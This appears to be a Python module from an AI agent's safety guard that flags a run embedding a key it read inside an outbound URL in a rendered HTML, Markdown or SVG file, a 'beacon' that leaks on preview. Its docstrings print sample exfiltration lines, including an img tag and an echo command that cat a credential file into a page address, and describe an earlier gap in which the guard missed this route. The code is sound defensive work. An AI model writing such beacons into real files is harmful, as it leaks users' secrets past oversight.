"""rt62: a key put into an address that is fetched when the run's output is shown (a beacon).

A page, an image or a document the run leaves in the workspace is opened by the person after the run, outside the
sandbox and outside any step the guard sees: ``<img src="https://away/p.gif?KEY">`` in ``report.html``, a Markdown
image (``![b](https://away/b.svg?k=KEY)``) in ``README.md`` that an editor's or a forge's preview fetches, an SVG's
``<image href>``, a prefetch link. On b7fd0bfd the file tool's write of such a page after the model had read the key
was no send (rt61 made a note holding the key *carry* it, for a later shell read), and a bash line holding the key
was judged only where the sandbox has the network — the beacon fires on the person's machine whatever the run's
network was.

So: an action that writes a piece of a key the run showed the model (``FlowState.keys``, ``flow._written_key``'s
twelve characters) INSIDE an address that leaves this machine (``http(s)``/``ftp``/``ws(s)``, not loopback) is that
key sent, for the file tool into a document that is shown (``_SHOWN``), and for a bash line whatever it writes. A key
written as text (a settings file, a note) and an address without it (a badge, a CDN link) are unchanged.
"""

from __future__ import annotations

from typing import Any

from macrohard.safety import lazyre

# documents a browser, an editor's preview or a forge renders, fetching the addresses of their images and links
SHOWN = (".html", ".htm", ".xhtml", ".shtml", ".svg", ".md", ".markdown", ".mdx", ".mkd", ".rst", ".adoc", ".eml",
         ".mht", ".mhtml", ".css", ".url", ".webloc", ".desktop")
_ADDRESS = lazyre.compile(r"(?i)\b(?:https?|ftp|wss?)://[^\s\"'<>()\\`]+")
_HOST = lazyre.compile(r"(?i)^[a-z]+://(?:[^/@]*@)?(\[[^\]]*\]|[^/:?#]*)")
_LOOPBACK = ("localhost", "127.", "[::1]", "0.0.0.0")
_WINDOW = 12  # as flow._KEY_WINDOW


def _away(address: str) -> bool:
    m = _HOST.match(address)
    host = (m.group(1) if m else "").lower()
    return bool(host) and not host.startswith(_LOOPBACK) and host != "::1"


def key_in_address(action: Any, keys: dict[str, str]) -> str:
    """The first key of ``keys`` a piece of which lies inside an address (not loopback) in the action's text; ""."""
    fields = action.model_dump() if hasattr(action, "model_dump") else {}
    text = "\n".join(str(v) for v in fields.values() if isinstance(v, str))
    addresses = [a for a in _ADDRESS.findall(text) if _away(a)]
    if not addresses:
        return ""
    for key, where in keys.items():
        pieces = [key[i:i + _WINDOW] for i in range(0, max(1, len(key) - _WINDOW + 1))]
        if any(p in a for a in addresses for p in pieces):
            return f"a piece of a key the model read from {where}"
    return ""


def shown(path: str) -> bool:
    """Whether ``path`` names a document that is rendered when the person opens it (``SHOWN``)."""
    return path.lower().endswith(SHOWN)


_WORD = lazyre.compile(r"[\w.+~-][\w./+~-]*")
_MAX_WORDS = 64


def shell_beacon(command: str, base: str) -> str:
    """A shell line (or the code it runs) that names a document that is shown, an address that leaves this machine,
    and a credential file of the folder (``flows.credential_file``): the key put into the page's address, ``echo
    "<img src='https://away/?$(cat k)'>" > r.html`` or python writing ``REPORT.md``; what it names, or "". (Not a
    records file: a report built from a table with links to the person's own site is ordinary.)"""
    import os

    if "://" not in command or not any(s in command.lower() for s in SHOWN):
        return ""
    words = list(dict.fromkeys(_WORD.findall(command)))
    if not any(shown(w) for w in words) or not any(_away(a) for a in _ADDRESS.findall(command)):
        return ""
    from macrohard.safety.flows import credential_file

    for word in words[:_MAX_WORDS]:
        path = os.path.normpath(os.path.join(base, word))
        if not shown(word) and os.path.isfile(path) and credential_file(path):
            return word
    return ""
